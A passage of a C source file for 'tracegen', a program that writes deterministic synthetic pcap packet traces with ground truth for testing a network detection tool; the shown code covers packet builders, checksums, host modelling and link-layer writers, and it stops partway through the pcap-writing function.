/* tracegen: writes synthetic packet traces with their ground truth.
 *
 *   tracegen OUTDIR [NAME...]   write OUTDIR/NAME.pcap, NAME.json and, where
 *                               a scenario needs one, NAME.conf
 *   tracegen --list             print the scenario names
 *
 * Every scenario covers a behaviour that no public capture does (see
 * /work/shared/data/pcaps/README.md, "Gaps") or pins down a corner of the
 * detection contract (SPEC section 4).  Output is deterministic: each
 * scenario seeds its own PRNG from its name, so writing one scenario alone
 * gives the same bytes as writing all of them, and the clock starts at
 * 2026-01-15T09:00:00Z.  Nothing here touches the network: the program
 * only writes files.
 *
 * Layout of this file:
 *   1. utilities (errors, PRNG, addresses, byte buffers, checksums)
 *   2. protocol builders (TCP, UDP, ICMP, ICMPv6, IPv4/IPv6, ARP)
 *   3. the trace: hosts, link-layer writers (one per link type), records
 *   4. host behaviour: TCP conversations, UDP/DNS, ICMP, ARP
 *   5. ground truth and config files
 *   6. scenario building blocks (background traffic, worm scanners)
 *   7. scenarios, the scenario table, main()
 *
 * Times inside a scenario are microseconds since the base time. */
#include <arpa/inet.h>
#include <errno.h>
#include <inttypes.h>
#include <netinet/in.h>
#include <pcap/pcap.h>
#include <stdarg.h>
#include <stdbool.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <time.h>

#define BASE_EPOCH 1768467600LL /* 2026-01-15T09:00:00Z */

#define SEC(s) ((s)*INT64_C(1000000))
#define MS(m)  ((m)*INT64_C(1000))

#define ARRAY_SIZE(a) (sizeof(a) / sizeof((a)[0]))

#define TH_FIN 0x01
#define TH_SYN 0x02
#define TH_RST 0x04
#define TH_PSH 0x08
#define TH_ACK 0x10
#define TH_URG 0x20

/* ------------------------------------------------------------------ */
/* 1. Utilities                                                        */
/* ------------------------------------------------------------------ */

static const char *prog = "tracegen";

/* Broken invariants in a scenario are programming errors: stop at once. */
static _Noreturn void die(const char *fmt, ...) __attribute__((format(printf, 1, 2)));

static _Noreturn void die(const char *fmt, ...)
{
	va_list ap;

	fprintf(stderr, "%s: ", prog);
	va_start(ap, fmt);
	vfprintf(stderr, fmt, ap);
	va_end(ap);
	fputc('\n', stderr);
	exit(1);
}

static void *xcalloc(size_t n, size_t size)
{
	void *p = calloc(n, size);

	if (!p)
		die("out of memory");
	return p;
}

static void *xrealloc(void *p, size_t size)
{
	void *q = realloc(p, size);

	if (!q)
		die("out of memory");
	return q;
}

/* splitmix64: small, fast, and good enough to make traffic look random. */
struct rng {
	uint64_t s;
};

static uint64_t rng_next(struct rng *r)
{
	uint64_t z = (r->s += 0x9e3779b97f4a7c15ULL);

	z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9ULL;
	z = (z ^ (z >> 27)) * 0x94d049bb133111ebULL;
	return z ^ (z >> 31);
}

/* Uniform in [lo, hi], both inclusive. */
static uint32_t rng_range(struct rng *r, uint32_t lo, uint32_t hi)
{
	return lo + (uint32_t)(rng_next(r) % ((uint64_t)hi - lo + 1));
}

static bool rng_pct(struct rng *r, unsigned pct)
{
	return rng_next(r) % 100 < pct;
}

static uint64_t fnv1a(const void *p, size_t n)
{
	const uint8_t *b = p;
	uint64_t h = 0xcbf29ce484222325ULL;

	for (size_t i = 0; i < n; i++)
		h = (h ^ b[i]) * 0x100000001b3ULL;
	return h;
}

/* An IPv4 or IPv6 address; v4 uses b[0..3] and leaves the rest zero. */
struct addr {
	uint8_t af; /* 4 or 6 */
	uint8_t b[16];
};

static struct addr addr_lit(const char *s)
{
	struct addr a;

	memset(&a, 0, sizeof(a));
	if (inet_pton(AF_INET, s, a.b) == 1)
		a.af = 4;
	else if (inet_pton(AF_INET6, s, a.b) == 1)
		a.af = 6;
	else
		die("bad address literal %s", s);
	return a;
}

static struct addr a4(unsigned b0, unsigned b1, unsigned b2, unsigned b3)
{
	struct addr a;

	memset(&a, 0, sizeof(a));
	a.af = 4;
	a.b[0] = (uint8_t)b0;
	a.b[1] = (uint8_t)b1;
	a.b[2] = (uint8_t)b2;
	a.b[3] = (uint8_t)b3;
	return a;
}

/* prefix (an IPv6 literal such as "fd00:2::") with its last 32 bits set to low */
static struct addr a6(const char *prefix, uint32_t low)
{
	struct addr a = addr_lit(prefix);

	a.b[12] = (uint8_t)(low >> 24);
	a.b[13] = (uint8_t)(low >> 16);
	a.b[14] = (uint8_t)(low >> 8);
	a.b[15] = (uint8_t)low;
	return a;
}

static bool addr_eq(struct addr a, struct addr b)
{
	return a.af == b.af && memcmp(a.b, b.b, 16) == 0;
}

static uint64_t addr_hash(struct addr a)
{
	return fnv1a(&a, sizeof(a));
}

static const char *addr_fmt(struct addr a, char buf[static INET6_ADDRSTRLEN])
{
	if (!inet_ntop(a.af == 4 ? AF_INET : AF_INET6, a.b, buf, INET6_ADDRSTRLEN))
		die("inet_ntop failed");
	return buf;
}

/* The capture sees one office LAN, 10.1.0.0/16 and fd00:1::/64 (plus
 * link-local), behind gateway 10.1.0.254 / fd00:1::1.  Everything else is
 * routed: internal server networks (10.2.0.0/16, fd00:2::/64) one hop away,
 * the Internet further. */
static bool addr_is_lan(struct addr a)
{
	static const uint8_t lan6[8] = {0xfd, 0x00, 0x00, 0x01, 0, 0, 0, 0};

	if (a.af == 4)
		return a.b[0] == 10 && a.b[1] == 1;
	if (a.b[0] == 0xfe && (a.b[1] & 0xc0) == 0x80)
		return true;
	return memcmp(a.b, lan6, 8) == 0;
}

static bool addr_is_internal(struct addr a)
{
	if (a.af == 4)
		return a.b[0] == 10 || (a.b[0] == 172 && (a.b[1] & 0xf0) == 16) ||
		       (a.b[0] == 192 && a.b[1] == 168);
	return (a.b[0] & 0xfe) == 0xfc;
}

static bool addr_is_mcast(struct addr a)
{
	return a.af == 4 ? (a.b[0] & 0xf0) == 0xe0 : a.b[0] == 0xff;
}

/* Limited broadcast, or the LAN's directed broadcast 10.1.255.255. */
static bool addr_is_bcast(struct addr a)
{
	static const uint8_t lim[4] = {255, 255, 255, 255};
	static const uint8_t dir[4] = {10, 1, 255, 255};

	return a.af == 4 && (memcmp(a.b, lim, 4) == 0 || memcmp(a.b, dir, 4) == 0);
}

/* A random host address inside cidr ("198.51.100.0/24", "fd00:2::/64");
 * never the all-zeros or all-ones host part of an IPv4 /24 or wider. */
static struct addr addr_rand_in(struct rng *r, const char *cidr)
{
	char tmp[64];
	char *slash;
	unsigned plen;
	struct addr a;

	if (strlen(cidr) >= sizeof(tmp))
		die("cidr too long");
	strcpy(tmp, cidr);
	slash = strchr(tmp, '/');
	if (!slash)
		die("cidr %s without /", cidr);
	*slash = '\0';
	plen = (unsigned)atoi(slash + 1);
	a = addr_lit(tmp);
	for (;;) {
		struct addr c = a;
		unsigned bits = a.af == 4 ? 32 : 128;

		for (unsigned i = plen; i < bits; i++) {
			/* IPv6: randomise only the low 16 bits, like a worm
			 * walking a small ULA range. */
			if (a.af == 6 && i < 112)
				continue;
			if (rng_next(r) & 1)
				c.b[i / 8] |= (uint8_t)(0x80 >> (i % 8));
		}
		if (a.af == 4 && (c.b[3] == 0 || c.b[3] == 255))
			continue;
		if (a.af == 6 && c.b[14] == 0 && c.b[15] < 2)
			continue;
		return c;
	}
}

/* A packet under construction.  2 KiB holds anything we build: the largest
 * is a 1500-byte IP packet plus link headers. */
#define PB_MAX 2048

struct pb {
	uint8_t b[PB_MAX];
	size_t n;
};

static void pb_need(const struct pb *p, size_t n)
{
	if (p->n + n > PB_MAX)
		die("packet buffer overflow");
}

static void pb_u8(struct pb *p, unsigned v)
{
	pb_need(p, 1);
	p->b[p->n++] = (uint8_t)v;
}

static void pb_u16(struct pb *p, unsigned v)
{
	pb_u8(p, (v >> 8) & 0xff);
	pb_u8(p, v & 0xff);
}

static void pb_u32(struct pb *p, uint32_t v)
{
	pb_u16(p, v >> 16);
	pb_u16(p, v & 0xffff);
}

static void pb_u32le(struct pb *p, uint32_t v)
{
	for (int i = 0; i < 4; i++)
		pb_u8(p, (v >> (8 * i)) & 0xff);
}

static void pb_bytes(struct pb *p, const void *d, size_t n)
{
	pb_need(p, n);
	if (n)
		memcpy(p->b + p->n, d, n);
	p->n += n;
}

static void pb_zero(struct pb *p, size_t n)
{
	pb_need(p, n);
	memset(p->b + p->n, 0, n);
	p->n += n;
}

static void put16_at(uint8_t *b, unsigned v)
{
	b[0] = (uint8_t)(v >> 8);
	b[1] = (uint8_t)v;
}

static void put32_at(uint8_t *b, uint32_t v)
{
	put16_at(b, v >> 16);
	put16_at(b + 2, v & 0xffff);
}

/* RFC 1071 one's complement sum; chunks must be even-sized except the last. */
static uint32_t csum_add(uint32_t sum, const uint8_t *p, size_t n)
{
	size_t i;

	for (i = 0; i + 1 < n; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (n & 1)
		sum += (uint32_t)p[n - 1] << 8;
	return sum;
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

/* ------------------------------------------------------------------ */
/* 2. Protocol builders                                                */
/* ------------------------------------------------------------------ */

struct tcp_fields {
	uint16_t sport, dport;
	uint32_t seq, ack;
	uint8_t flags;
	uint16_t win;
	uint16_t urp;
	const uint8_t *opt; /* padded to a multiple of 4 by the caller */
	size_t optlen;
	const uint8_t *data;
	size_t dlen;
};

/* TCP header and payload; the checksum is left zero for ip_packet(). */
static void tcp_build(struct pb *l4, const struct tcp_fields *f)
{
	if (f->optlen % 4 || f->optlen > 40)
		die("bad TCP option length %zu", f->optlen);
	l4->n = 0;
	pb_u16(l4, f->sport);
	pb_u16(l4, f->dport);
	pb_u32(l4, f->seq);
	pb_u32(l4, f->ack);
	pb_u8(l4, (unsigned)((20 + f->optlen) / 4) << 4);
	pb_u8(l4, f->flags);
	pb_u16(l4, f->win);
	pb_u16(l4, 0);
	pb_u16(l4, f->urp);
	pb_bytes(l4, f->opt, f->optlen);
	pb_bytes(l4, f->data, f->dlen);
}

static void udp_build(struct pb *l4, uint16_t sport, uint16_t dport, const uint8_t *data,
		      size_t dlen)
{
	l4->n = 0;
	pb_u16(l4, sport);
	pb_u16(l4, dport);
	pb_u16(l4, (unsigned)(8 + dlen));
	pb_u16(l4, 0);
	pb_bytes(l4, data, dlen);
}

/* ICMP and ICMPv6 share a layout: type, code, checksum, 4 bytes, data. */
static void icmp_build(struct pb *l4, uint8_t type, uint8_t code, uint32_t rest,
		       const uint8_t *data, size_t dlen)
{
	l4->n = 0;
	pb_u8(l4, type);
	pb_u8(l4, code);
	pb_u16(l4, 0);
	pb_u32(l4, rest);
	pb_bytes(l4, data, dlen);
}

/* IP-level fields of one packet. */
struct ip_fields {
	struct addr src, dst;
	uint8_t proto; /* transport protocol (after any extension header) */
	uint8_t ttl;   /* TTL or hop limit */
	uint8_t tos;
	uint16_t id; /* IPv4 identification */
	bool df;
	bool mf;	  /* more fragments */
	uint16_t fragoff; /* fragment offset in 8-byte units */
	bool v6frag;	  /* IPv6: insert a Fragment header */
	uint32_t v6fragid;
	bool hbh; /* IPv6: insert a Hop-by-Hop Options header (PadN only) */
	bool ra;  /* IPv4: Router Alert option (IHL 6), as IGMP sends it */
	uint32_t flow;
};

/* Sets the transport checksum of l4, which must be the whole datagram
 * (all fragments' worth) for f->proto. */
static void l4_checksum(const struct ip_fields *f, struct pb *l4)
{
	uint8_t ph[40];
	size_t phlen;
	uint32_t sum;
	size_t off;

	switch (f->proto) {
	case IPPROTO_TCP:
		off = 16;
		break;
	case IPPROTO_UDP:
		off = 6;
		break;
	case IPPROTO_ICMP:
	case IPPROTO_ICMPV6:
		off = 2;
		break;
	default:
		return;
	}
	if (l4->n < off + 2)
		die("transport header too short");
	put16_at(l4->b + off, 0);
	if (f->proto == IPPROTO_ICMP) {
		put16_at(l4->b + off, csum_fold(csum_add(0, l4->b, l4->n)));
		return;
	}
	if (f->src.af == 4) {
		memcpy(ph, f->src.b, 4);
		memcpy(ph + 4, f->dst.b, 4);
		ph[8] = 0;
		ph[9] = f->proto;
		put16_at(ph + 10, (unsigned)l4->n);
		phlen = 12;
	} else {
		memcpy(ph, f->src.b, 16);
		memcpy(ph + 16, f->dst.b, 16);
		ph[32] = (uint8_t)(l4->n >> 24);
		ph[33] = (uint8_t)(l4->n >> 16);
		ph[34] = (uint8_t)(l4->n >> 8);
		ph[35] = (uint8_t)l4->n;
		ph[36] = ph[37] = ph[38] = 0;
		ph[39] = f->proto;
		phlen = 40;
	}
	sum = csum_add(0, ph, phlen);
	sum = csum_add(sum, l4->b, l4->n);
	put16_at(l4->b + off, csum_fold(sum) ? csum_fold(sum) : 0xffff);
}

/* IP header(s) in front of payload (a whole transport datagram, or one
 * fragment of it). */
static void ip_wrap(struct pb *out, const struct ip_fields *f, const uint8_t *payload, size_t len)
{
	out->n = 0;
	if (f->src.af == 4) {
		unsigned frag = f->fragoff | (f->df ? 0x4000u : 0) | (f->mf ? 0x2000u : 0);

		size_t hl = f->ra ? 24 : 20;

		pb_u8(out, 0x40 | (unsigned)(hl / 4));
		pb_u8(out, f->tos);
		pb_u16(out, (unsigned)(hl + len));
		pb_u16(out, f->id);
		pb_u16(out, frag);
		pb_u8(out, f->ttl);
		pb_u8(out, f->proto);
		pb_u16(out, 0);
		pb_bytes(out, f->src.b, 4);
		pb_bytes(out, f->dst.b, 4);
		if (f->ra)
			pb_u32(out, 0x94040000u);
		put16_at(out->b + 10, csum_fold(csum_add(0, out->b, hl)));
	} else {
		size_t ext = (f->hbh ? 8 : 0) + (f->v6frag ? 8 : 0);
		uint8_t nh = f->hbh ? 0 : f->v6frag ? 44 : f->proto;

		pb_u32(out, 0x60000000u | (f->tos << 20) | (f->flow & 0xfffff));
		pb_u16(out, (unsigned)(ext + len));
		pb_u8(out, nh);
		pb_u8(out, f->ttl);
		pb_bytes(out, f->src.b, 16);
		pb_bytes(out, f->dst.b, 16);
		if (f->hbh) {
			pb_u8(out, f->v6frag ? 44 : f->proto);
			pb_u8(out, 0);
			pb_u8(out, 1); /* PadN */
			pb_u8(out, 4);
			pb_zero(out, 4);
		}
		if (f->v6frag) {
			pb_u8(out, f->proto);
			pb_u8(out, 0);
			pb_u16(out, (unsigned)(f->fragoff << 3) | (f->mf ? 1u : 0u));
			pb_u32(out, f->v6fragid);
		}
	}
	pb_bytes(out, payload, len);
}

static void ip_packet(struct pb *out, const struct ip_fields *f, struct pb *l4)
{
	l4_checksum(f, l4);
	ip_wrap(out, f, l4->b, l4->n);
}

/* Sets the TTL / hop limit of a built IP packet (a forwarded copy). */
static void ip_set_ttl(uint8_t *ip, uint8_t ttl)
{
	if ((ip[0] >> 4) == 4) {
		ip[8] = ttl;
		put16_at(ip + 10, 0);
		put16_at(ip + 10, csum_fold(csum_add(0, ip, (size_t)(ip[0] & 0x0f) * 4)));
	} else {
		ip[7] = ttl;
	}
}

static uint8_t ip_ttl(const uint8_t *ip)
{
	return (ip[0] >> 4) == 4 ? ip[8] : ip[7];
}

static void ip_addrs(const uint8_t *ip, struct addr *ret_src, struct addr *ret_dst)
{
	memset(ret_src, 0, sizeof(*ret_src));
	memset(ret_dst, 0, sizeof(*ret_dst));
	if ((ip[0] >> 4) == 4) {
		ret_src->af = ret_dst->af = 4;
		memcpy(ret_src->b, ip + 12, 4);
		memcpy(ret_dst->b, ip + 16, 4);
	} else {
		ret_src->af = ret_dst->af = 6;
		memcpy(ret_src->b, ip + 8, 16);
		memcpy(ret_dst->b, ip + 24, 16);
	}
}

static void arp_build(struct pb *out, uint16_t op, const uint8_t sha[6], struct addr spa,
		      const uint8_t tha[6], struct addr tpa)
{
	out->n = 0;
	pb_u16(out, 1);	     /* Ethernet */
	pb_u16(out, 0x0800); /* IPv4 */
	pb_u8(out, 6);
	pb_u8(out, 4);
	pb_u16(out, op);
	pb_bytes(out, sha, 6);
	pb_bytes(out, spa.b, 4);
	pb_bytes(out, tha, 6);
	pb_bytes(out, tpa.b, 4);
}

/* ------------------------------------------------------------------ */
/* 3. The trace: hosts, link-layer writers, records                    */
/* ------------------------------------------------------------------ */

/* How a host's network stack behaves: options, TTL, ports, retransmits. */
enum stack {
	ST_LINUX,
	ST_WIN,
};

struct host {
	bool used;
	struct addr ip;
	uint8_t mac[6];
	uint8_t stack;
	uint8_t ttl; /* as captured, i.e. after the hops before the capture */
	uint16_t ip_id;
	uint32_t port_ctr;
	uint32_t tsval;
};

/* Hosts of one trace: open addressing, sized for the largest scenario
 * (the SMB outbreak touches a few thousand scan targets). */
#define HOST_SLOTS 16384u

enum link {
	LK_ETH,	  /* Ethernet */
	LK_VLAN,  /* Ethernet with one 802.1Q tag */
	LK_QINQ,  /* Ethernet with an 802.1ad tag, then an 802.1Q tag */
	LK_SLL,	  /* Linux cooked v1, one interface */
	LK_SLL2,  /* Linux cooked v2, "any" on a router: forwarded packets twice */
	LK_RAW,	  /* raw IP */
	LK_NULL,  /* BSD loopback */
	LK_USER0, /* a link type nobody decodes */
};

struct rec {
	int64_t ts;	/* µs since the base time */
	uint32_t order; /* emission order: ties keep it */
	uint32_t len;
	size_t off; /* into trace.arena */
};

struct trace {
	enum link link;
	bool dup_all; /* every frame captured twice (a doubled SPAN session) */
	struct rng rng;
	struct host *hosts;
	unsigned nhosts;
	struct rec *recs;
	size_t nrecs, caprecs;
	uint8_t *arena;
	size_t arena_len, arena_cap;
	uint32_t v6fragid;
};

static const uint8_t MAC_BCAST[6] = {0xff, 0xff, 0xff, 0xff, 0xff, 0xff};
static const uint8_t MAC_ZERO[6] = {0, 0, 0, 0, 0, 0};
static const uint8_t MAC_GW[6] = {0x00, 0x0d, 0xb9, 0x4a, 0x11, 0x01};	   /* gateway, LAN side */
static const uint8_t MAC_GW_WAN[6] = {0x00, 0x0d, 0xb9, 0x4a, 0x11, 0x02}; /* gateway, WAN side */
static const uint8_t MAC_UPSTREAM[6] = {0x00, 0x1b, 0x21, 0x3c, 0x9d, 0x80};

static void mac_for(struct addr a, uint8_t mac[6]);

static void host_init(struct host *h, struct addr a, enum stack st)
{
	uint64_t hv = addr_hash(a);
	unsigned hops;

	h->used = true;
	h->ip = a;
	h->stack = (uint8_t)st;
	if (addr_is_lan(a))
		hops = 0;
	else if (addr_is_internal(a))
		hops = 1;
	else
		hops = 6 + (unsigned)(hv % 14);
	h->ttl = (uint8_t)((st == ST_WIN ? 128 : 64) - hops);
	h->ip_id = (uint16_t)(hv >> 16);
	h->port_ctr = (uint32_t)(hv >> 32);
	h->tsval = (uint32_t)(hv >> 8) & 0x3fffffff;
	mac_for(a, h->mac);
}

/* Finds or creates the host with address a.  New hosts get a stack by
 * address: LAN PCs are mostly Windows, servers mostly Linux. */
static struct host *host(struct trace *t, struct addr a)
{
	uint64_t hv = addr_hash(a);
	unsigned i = (unsigned)hv & (HOST_SLOTS - 1);

	for (;;) {
		struct host *h = &t->hosts[i];

		if (!h->used) {
			if (++t->nhosts > HOST_SLOTS * 3 / 4)
				die("too many hosts in one trace");
			host_init(h, a, addr_is_lan(a) && hv % 3 ? ST_WIN : ST_LINUX);
			return h;
		}
		if (addr_eq(h->ip, a))
			return h;
		i = (i + 1) & (HOST_SLOTS - 1);
	}
}

/* The host at a, with the given stack. */
static struct host *host_as(struct trace *t, struct addr a, enum stack st)
{
	struct host *h = host(t, a);

	if (h->stack != st)
		host_init(h, a, st);
	return h;
}

static struct host *H(struct trace *t, const char *s)
{
	return host(t, addr_lit(s));
}

static struct host *Hs(struct trace *t, const char *s, enum stack st)
{
	return host_as(t, addr_lit(s), st);
}

/* A stable, vendor-looking MAC for a LAN address. */
static void mac_for(struct addr a, uint8_t mac[6])
{
	static const uint8_t ouis[][3] = {
		{0x3c, 0x52, 0x82}, /* HP */
		{0xf8, 0xbc, 0x12}, /* Dell */
		{0x00, 0x50, 0x56}, /* VMware */
		{0x8c, 0x16, 0x45}, /* Lenovo */
		{0xb8, 0x27, 0xeb}, /* Raspberry Pi */
		{0x00, 0x1e, 0x67}, /* Intel */
	};
	uint64_t hv = addr_hash(a);
	const uint8_t *o = ouis[hv % ARRAY_SIZE(ouis)];

	mac[0] = o[0];
	mac[1] = o[1];
	mac[2] = o[2];
	mac[3] = (uint8_t)(hv >> 16);
	mac[4] = (uint8_t)(hv >> 24);
	mac[5] = (uint8_t)(hv >> 32);
}

static void mac_mcast(struct addr a, uint8_t mac[6])
{
	if (a.af == 4) {
		mac[0] = 0x01;
		mac[1] = 0x00;
		mac[2] = 0x5e;
		mac[3] = a.b[1] & 0x7f;
		mac[4] = a.b[2];
		mac[5] = a.b[3];
	} else {
		mac[0] = mac[1] = 0x33;
		memcpy(mac + 2, a.b + 12, 4);
	}
}

static int link_dlt(enum link l)
{
	switch (l) {
	case LK_ETH:
	case LK_VLAN:
	case LK_QINQ:
		return DLT_EN10MB;
	case LK_SLL:
		return DLT_LINUX_SLL;
	case LK_SLL2:
		return DLT_LINUX_SLL2;
	case LK_RAW:
		return DLT_RAW;
	case LK_NULL:
		return DLT_NULL;
	case LK_USER0:
		return DLT_USER0;
	}
	return DLT_EN10MB;
}

static bool link_is_eth(enum link l)
{
	return l == LK_ETH || l == LK_VLAN || l == LK_QINQ;
}

static void store(struct trace *t, int64_t ts, const uint8_t *frame, size_t len)
{
	for (int copy = 0; copy < (t->dup_all ? 2 : 1); copy++) {
		struct rec *r;

		if (t->nrecs == t->caprecs) {
			t->caprecs = t->caprecs ? t->caprecs * 2 : 4096;
			t->recs = xrealloc(t->recs, t->caprecs * sizeof(*t->recs));
		}
		while (t->arena_len + len > t->arena_cap) {
			t->arena_cap = t->arena_cap ? t->arena_cap * 2 : (1u << 20);
			t->arena = xrealloc(t->arena, t->arena_cap);
		}
		r = &t->recs[t->nrecs];
		r->ts = ts;
		r->order = (uint32_t)t->nrecs;
		r->len = (uint32_t)len;
		r->off = t->arena_len;
		memcpy(t->arena + t->arena_len, frame, len);
		t->arena_len += len;
		t->nrecs++;
	}
}

/* Ethernet framing, with the trace's tags; padded to the 60-byte minimum
 * as a mirror port delivers it. */
static void write_eth(struct trace *t, int64_t ts, const uint8_t dst[6], const uint8_t src[6],
		      uint16_t ethertype, const uint8_t *payload, size_t len)
{
	struct pb f = {.n = 0};

	pb_bytes(&f, dst, 6);
	pb_bytes(&f, src, 6);
	if (t->link == LK_QINQ) {
		pb_u16(&f, 0x88a8);
		pb_u16(&f, 100); /* service VLAN 100 */
	}
	if (t->link == LK_QINQ || t->link == LK_VLAN) {
		pb_u16(&f, 0x8100);
		pb_u16(&f, 10); /* customer VLAN 10, priority 0 */
	}
	pb_u16(&f, ethertype);
	pb_bytes(&f, payload, len);
	if (f.n < 60)
		pb_zero(&f, 60 - f.n);
	store(t, ts, f.b, f.n);
}

/* Linux packet types (struct sockaddr_ll.sll_pkttype). */
enum { PKT_HOST = 0, PKT_BROADCAST = 1, PKT_MULTICAST = 2, PKT_OTHERHOST = 3, PKT_OUTGOING = 4 };

static void write_sll(struct trace *t, int64_t ts, unsigned pkttype, const uint8_t lladdr[6],
		      uint16_t proto, const uint8_t *payload, size_t len)
{
	struct pb f = {.n = 0};

	pb_u16(&f, pkttype);
	pb_u16(&f, 1); /* ARPHRD_ETHER */
	pb_u16(&f, 6);
	pb_bytes(&f, lladdr, 6);
	pb_zero(&f, 2);
	pb_u16(&f, proto);
	pb_bytes(&f, payload, len);
	store(t, ts, f.b, f.n);
}

static void write_sll2(struct trace *t, int64_t ts, uint32_t ifindex, unsigned pkttype,
		       const uint8_t lladdr[6], uint16_t proto, const uint8_t *payload, size_t len)
{
	struct pb f = {.n = 0};

	pb_u16(&f, proto);
	pb_u16(&f, 0);
	pb_u32(&f, ifindex);
	pb_u16(&f, 1); /* ARPHRD_ETHER */
	pb_u8(&f, pkttype);
	pb_u8(&f, 6);
	pb_bytes(&f, lladdr, 6);
	pb_zero(&f, 2);
	pb_bytes(&f, payload, len);
	store(t, ts, f.b, f.n);
}

/* BSD loopback: the address family in the writer's byte order. */
static void write_null(struct trace *t, int64_t ts, const uint8_t *ip, size_t len)
{
	struct pb f = {.n = 0};

	/* 2 = AF_INET everywhere; 30 = AF_INET6 on Darwin, the usual writer */
	pb_u32le(&f, (ip[0] >> 4) == 4 ? 2 : 30);
	pb_bytes(&f, ip, len);
	store(t, ts, f.b, f.n);
}

enum { IF_LAN = 2, IF_WAN = 3 }; /* ifindexes of the router in SLL2 traces */

/* Emits one IP packet with the link-layer header the trace's link type
 * calls for; MAC addresses follow from the addresses (LAN hosts by their
 * own MAC, everything else through the gateway).  mac_src/mac_dst, when
 * not NULL, override them. */
static void emit_ip_l2(struct trace *t, int64_t ts, const struct pb *ip, const uint8_t *mac_src,
		       const uint8_t *mac_dst)
{
	struct addr src, dst;
	uint8_t smac[6], dmac[6];
	uint16_t et;
	bool src_lan, dst_lan, group;
	unsigned pkttype;

	ip_addrs(ip->b, &src, &dst);
	et = src.af == 4 ? 0x0800 : 0x86dd;
	src_lan = addr_is_lan(src);
	dst_lan = addr_is_lan(dst);
	group = addr_is_mcast(dst) || addr_is_bcast(dst);
	if (mac_src)
		memcpy(smac, mac_src, 6);
	else if (src_lan)
		memcpy(smac, host(t, src)->mac, 6);
	else
		memcpy(smac, MAC_GW, 6);
	if (mac_dst)
		memcpy(dmac, mac_dst, 6);
	else if (addr_is_bcast(dst))
		memcpy(dmac, MAC_BCAST, 6);
	else if (addr_is_mcast(dst))
		mac_mcast(dst, dmac);
	else if (dst_lan)
		memcpy(dmac, host(t, dst)->mac, 6);
	else
		memcpy(dmac, MAC_GW, 6);

	if (addr_is_bcast(dst))
		pkttype = PKT_BROADCAST;
	else if (addr_is_mcast(dst))
		pkttype = PKT_MULTICAST;
	else if (!src_lan)
		pkttype = PKT_OUTGOING;
	else if (memcmp(dmac, MAC_GW, 6) == 0)
		pkttype = PKT_HOST;
	else
		pkttype = PKT_OTHERHOST;

	switch (t->link) {
	case LK_ETH:
	case LK_VLAN:
	case LK_QINQ:
		write_eth(t, ts, dmac, smac, et, ip->b, ip->n);
		break;
	case LK_SLL:
		write_sll(t, ts, pkttype, src_lan ? smac : MAC_GW, et, ip->b, ip->n);
		break;
	case LK_SLL2:
		if (group || src_lan == dst_lan) {
			write_sll2(t, ts, IF_LAN, pkttype, smac, et, ip->b, ip->n);
		} else {
			/* Routed: in on one interface, out on the other one
			 * hop later (TTL - 1), as "tcpdump -i any" shows it. */
			struct pb other = *ip;

			if (src_lan) {
				write_sll2(t, ts, IF_LAN, PKT_HOST, smac, et, ip->b, ip->n);
				ip_set_ttl(other.b, (uint8_t)(ip_ttl(ip->b) - 1));
				write_sll2(t, ts + 25, IF_WAN, PKT_OUTGOING, MAC_GW_WAN, et,
					   other.b, other.n);
			} else {
				ip_set_ttl(other.b, (uint8_t)(ip_ttl(ip->b) + 1));
				write_sll2(t, ts - 25, IF_WAN, PKT_HOST, MAC_UPSTREAM, et, other.b,
					   other.n);
				write_sll2(t, ts, IF_LAN, PKT_OUTGOING, MAC_GW, et, ip->b, ip->n);
			}
		}
		break;
	case LK_RAW:
	case LK_USER0:
		store(t, ts, ip->b, ip->n);
		break;
	case LK_NULL:
		write_null(t, ts, ip->b, ip->n);
		break;
	}
}

static void emit_ip(struct trace *t, int64_t ts, const struct pb *ip)
{
	emit_ip_l2(t, ts, ip, NULL, NULL);
}

/* Emits an ARP packet; link types without ARP (raw, loopback) drop it. */
static void emit_arp(struct trace *t, int64_t ts, uint16_t op, const uint8_t sha[6],
		     struct addr spa, const uint8_t tha[6], struct addr tpa,
		     const uint8_t eth_dst[6])
{
	struct pb p;
	bool bcast = memcmp(eth_dst, MAC_BCAST, 6) == 0;

	arp_build(&p, op, sha, spa, tha, tpa);
	if (link_is_eth(t->link))
		write_eth(t, ts, eth_dst, sha, 0x0806, p.b, p.n);
	else if (t->link == LK_SLL)
		write_sll(t, ts, bcast ? PKT_BROADCAST : PKT_HOST, sha, 0x0806, p.b, p.n);
	else if (t->link == LK_SLL2)
		write_sll2(t, ts, IF_LAN, bcast ? PKT_BROADCAST : PKT_HOST, sha, 0x0806, p.b, p.n);
}

/* An 802.3 spanning-tree BPDU: not IP, not ARP; something for a decoder to
 * skip. */
static void emit_stp(struct trace *t, int64_t ts)
{
	static const uint8_t dst[6] = {0x01, 0x80, 0xc2, 0x00, 0x00, 0x00};
	static const uint8_t src[6] = {0x00, 0x1b, 0x21, 0x3c, 0x9d, 0x81};
	struct pb f = {.n = 0};

	if (!link_is_eth(t->link))
		return;
	pb_bytes(&f, dst, 6);
	pb_bytes(&f, src, 6);
	pb_u16(&f, 38); /* 802.3 length: LLC + BPDU */
	pb_u8(&f, 0x42);
	pb_u8(&f, 0x42);
	pb_u8(&f, 0x03);
	pb_u16(&f, 0); /* protocol id */
	pb_u8(&f, 0);  /* version */
	pb_u8(&f, 0);  /* config BPDU */
	pb_u8(&f, 0);  /* flags */
	pb_u16(&f, 0x8000);
	pb_bytes(&f, src, 6);
	pb_u32(&f, 0);
	pb_u16(&f, 0x8000);
	pb_bytes(&f, src, 6);
	pb_u16(&f, 0x8001);
	pb_u16(&f, 0);
	pb_u16(&f, 20 * 256);
	pb_u16(&f, 2 * 256);
	pb_u16(&f, 15 * 256);
	if (f.n < 60)
		pb_zero(&f, 60 - f.n);
	store(t, ts, f.b, f.n);
}

static int rec_cmp(const void *a, const void *b)
{
	const struct rec *x = a, *y = b;

	if (x->ts != y->ts)
		return x->ts < y->ts ? -1 : 1;
	return x->order < y->order ? -1 : x->order > y->order;
}

/* Writes the trace's records in time order.  0 or -errno. */
static int trace_write_pcap(struct trace *t, const char *path, int snaplen, bool nano)
{
	char errbuf[PCAP_ERRBUF_SIZE];
	pcap_t *p;
	pcap_dumper_t *d;
	int r = 0;

	qsort(t->recs, t->nrecs, sizeof(*t->recs), rec_cmp);
